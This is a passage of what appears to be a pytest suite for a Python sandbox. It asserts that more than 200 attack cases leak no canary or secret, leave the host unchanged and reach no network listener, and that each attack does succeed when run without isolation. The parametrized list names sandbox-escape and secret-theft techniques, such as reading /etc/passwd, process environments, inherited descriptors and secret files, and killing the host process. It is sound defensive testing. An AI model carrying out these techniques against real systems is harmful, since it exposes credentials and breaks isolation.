    del os.environ["STILL_CANARY"], os.environ["STILL_SECRET_ACCESS_KEY"]


def _key(case: Case) -> str:
    return f"{case.family}-{case.name}" + ("-children" if case.children else "")


def test_there_are_enough_attacks_of_every_family() -> None:
    counts = {family: sum(case.family == family for case in CASES) for family in MINIMUM}
    assert all(counts[family] >= least for family, least in MINIMUM.items()), counts
    assert len({_key(case) for case in CASES}) == len(CASES) >= 200


@pytest.mark.parametrize("case", CASES, ids=_key)
def test_attack_gets_nothing_and_ends_in_time(case: Case, field: Field) -> None:
    result = field.outcomes[_key(case)].result()
    said = result.stdout + result.stderr + str(result.value)
    assert "BREACH" not in said.replace("print('BREACH", ""), said[-2000:]
    assert field.canary not in said
    assert result.seconds <= TIMEOUT_S + 1.0
    assert len(result.stdout.encode()) <= 3 * 65_536
    assert (field.folder / "canary").read_text() == "untouched"
    assert not field.listener.heard
    if case.statuses:
        assert result.status.value in case.statuses, result
    files = re.findall(r'^ *File "([^"]*)"', result.stderr, re.MULTILINE)
    assert all(re.match(r"main\.py|guest\.py|/python/|<", name) for name in files), files


def test_after_all_attacks_the_host_is_as_before(field: Field) -> None:
    for each in field.outcomes.values():
        each.result()
    grown_mb = _status_mb("VmHWM") - field.resident_mb
    for sandbox in field.sandboxes:
        sandbox.close()
    time.sleep(1.0)
    assert frozenset(_processes_below(os.getpid())) <= field.processes
    assert Path("/proc/self/mounts").read_text() == field.mounts
    assert sorted(each.name for each in field.folder.iterdir()) == ["canary", "secret", "unix"]
    assert grown_mb < 50
    assert not field.listener.heard


def unprotected(code: str) -> str:
    """What the code prints as a plain subprocess: environment and descriptors inherited."""
    done = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        timeout=20,
        close_fds=False,
        check=False,
    )
    return done.stdout


@pytest.mark.parametrize(
    "name",
    [
        "F34-network-tcp_listener",
        "F34-network-tcp_localhost_name",
        "F34-network-udp_listener",
        "F34-network-unix_socket",
        "F34-network-abstract_socket",
        "F34-network-listen",
        "F34-network-interfaces",
        "F35-files-passwd",
        "F35-files-self_environ",
        "F35-files-self_maps",
        "F35-files-host_process",
        "F35-files-mounts",
        "F35-files-secret_by_path",
        "F35-files-secret_by_dots",
        "F35-files-secret_by_chdir",
        "F35-files-repository",
        "F35-files-programs",
        "F35-files-shell",
        "F35-files-site_packages",
        "F35-files-open_path_flag",
        "F35-files-write_host_canary",
        "F36-secrets-environment",
        "F36-secrets-parent_environment",
        "F36-secrets-parent_arguments",
        "F36-secrets-inherited_descriptors",
        "F36-secrets-paths_of_host",
        "F37-escalation-kill_host",
        "F37-escalation-pidfd_open",
        "F37-escalation-memory_file_execution",
    ],
)
def test_the_same_attack_succeeds_without_isolation(name: str, field: Field) -> None:
    """Otherwise its failure in the sandbox would say nothing."""
    for each in field.outcomes.values():
        each.result()
    case = next(case for case in CASES if _key(case) == name)
    said = unprotected(field.prelude + case.code)
    (field.folder / "canary").write_text("untouched")
    field.listener.heard.clear()
    assert "BREACH" in said
